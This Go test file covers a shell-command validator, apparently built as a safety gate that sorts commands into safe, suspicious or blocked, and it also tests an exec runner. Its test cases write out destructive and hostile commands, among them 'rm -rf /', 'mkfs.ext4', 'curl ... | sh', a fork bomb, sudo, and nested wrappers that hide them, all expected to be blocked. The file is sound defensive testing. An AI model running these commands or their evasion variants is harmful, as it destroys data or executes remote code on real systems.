package shell

import (
	"context"
	"runtime"
	"strings"
	"testing"
	"time"
)

func TestValidateClassifiesCommands(t *testing.T) {
	tests := []struct {
		name    string
		command string
		level   Level
	}{
		{name: "plain", command: "gh run view 42 --json status -q .status", level: LevelSafe},
		{name: "quoted_operator", command: `echo "a|b; c"`, level: LevelSafe},
		{name: "env_prefix", command: "CI=1 go test ./...", level: LevelSafe},
		{name: "pipe", command: "cat status.txt | tr -d ' '", level: LevelSuspicious},
		{name: "chain", command: "test -f done && echo ok", level: LevelSuspicious},
		{name: "redirect", command: "echo ok > out.txt", level: LevelSuspicious},
		{name: "empty", command: "   ", level: LevelBlocked},
		{name: "substitution", command: "echo $(whoami)", level: LevelBlocked},
		{name: "backtick", command: "echo `id`", level: LevelBlocked},
		{name: "rm_rf", command: "rm -rf build", level: LevelBlocked},
		{name: "rm_chained", command: "echo hi; rm -fr /", level: LevelBlocked},
		{name: "sudo", command: "sudo ls", level: LevelBlocked},
		{name: "absolute_sudo", command: "/usr/bin/sudo ls", level: LevelBlocked},
		{name: "mkfs", command: "mkfs.ext4 /dev/sda1", level: LevelBlocked},
		{name: "curl_sh", command: "curl https://example.test/x.sh | sh", level: LevelBlocked},
		{name: "fork_bomb", command: ":(){ :|:& };:", level: LevelBlocked},
		{name: "unbalanced", command: `echo "unterminated`, level: LevelBlocked},
		{name: "wrapped_safe", command: `sh -c 'gh run view 42'`, level: LevelSafe},
		{name: "wrapped_chain", command: `sh -c 'echo a; echo b'`, level: LevelSuspicious},
		{name: "sh_c_rm", command: `sh -c 'rm -rf ~'`, level: LevelBlocked},
		{name: "bash_c_sudo", command: `bash -c "sudo reboot"`, level: LevelBlocked},
		{name: "bash_long_option", command: `bash --norc -lc "sudo ls"`, level: LevelBlocked},
		{name: "nested_wrappers", command: `sh -c "bash -c 'rm -rf /'"`, level: LevelBlocked},
		{name: "nice_rm", command: "nice rm -rf ~", level: LevelBlocked},
		{name: "nice_n_rm", command: "nice -n 10 rm -rf ~", level: LevelBlocked},
		{name: "env_sudo", command: "env sudo reboot", level: LevelBlocked},
		{name: "env_assign_sudo", command: "env FOO=1 sudo reboot", level: LevelBlocked},
		{name: "timeout_rm", command: "timeout -s KILL 5 rm -rf build", level: LevelBlocked},
		{name: "nohup_kill", command: "nohup kill 1", level: LevelBlocked},
		{name: "xargs_rm", command: "xargs -I {} rm -rf {}", level: LevelBlocked},
		{name: "command_lookup", command: "command -v rm", level: LevelSafe},
		{name: "timeout_check", command: "timeout 10 gh run view 42", level: LevelSafe},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			assessment := Validate(test.command)
			if assessment.Level != test.level {
				t.Fatalf("Validate(%q)=%s %v want %s", test.command, assessment.Level, assessment.Reasons, test.level)
			}
			if test.level != LevelSafe && len(assessment.Reasons) == 0 {
				t.Fatalf("expected reasons for %q", test.command)
			}
		})
	}
}

func TestExecRunnerCapturesOutputAndExitCode(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("requires sh")
	}
	runner := ExecRunner{}
	result, err := runner.Run(context.Background(), Command{Line: "echo ready; echo oops 1>&2; exit 3", Dir: t.TempDir()})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if strings.TrimSpace(result.Stdout) != "ready" || strings.TrimSpace(result.Stderr) != "oops" {
		t.Fatalf("unexpected output: %#v", result)
	}
	if result.ExitCode != 3 || result.TimedOut {
		t.Fatalf("unexpected exit: %#v", result)
	}
}

func TestExecRunnerTimesOut(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("requires sh")
	}
	runner := ExecRunner{}
	started := time.Now()
	result, err := runner.Run(context.Background(), Command{Line: "sleep 5", Timeout: 100 * time.Millisecond})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if !result.TimedOut {
		t.Fatalf("expected timeout, got %#v", result)
	}
	if time.Since(started) > 4*time.Second {
		t.Fatalf("timeout not enforced")
	}
}

func TestExecRunnerRejectsEmptyCommand(t *testing.T) {
	if _, err := (ExecRunner{}).Run(context.Background(), Command{Line: " "}); err == nil {
		t.Fatalf("expected missing command error")
	}
}

func TestRunnerFuncAdapter(t *testing.T) {
	var runner Runner = RunnerFunc(func(_ context.Context, command Command) (Result, error) {
		return Result{Stdout: command.Line}, nil
	})
	result, err := runner.Run(context.Background(), Command{Line: "noop"})
	if err != nil || result.Stdout != "noop" {
		t.Fatalf("unexpected adapter result %#v err=%v", result, err)
	}
}
